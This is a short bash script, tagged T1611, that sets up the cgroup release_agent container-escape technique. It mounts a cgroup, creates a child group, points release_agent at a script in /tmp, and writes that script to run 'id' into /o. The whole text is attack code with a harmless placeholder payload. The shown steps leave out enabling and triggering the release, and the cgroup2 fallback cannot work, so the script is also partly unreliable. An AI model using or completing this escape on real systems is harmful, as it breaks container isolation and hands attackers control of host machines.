#!/bin/bash
# T1611: Control groups are mounted, and a way for their end is written.
mkdir /tmp/cgrp; mount -t cgroup -o memory cgroup /tmp/cgrp || mount -t cgroup2 none /tmp/cgrp; mkdir -p /tmp/cgrp/x; echo '/tmp/cmd' >/tmp/cgrp/release_agent; printf '#!/bin/sh\nid >/o\n' >/tmp/cmd; chmod +x /tmp/cmd
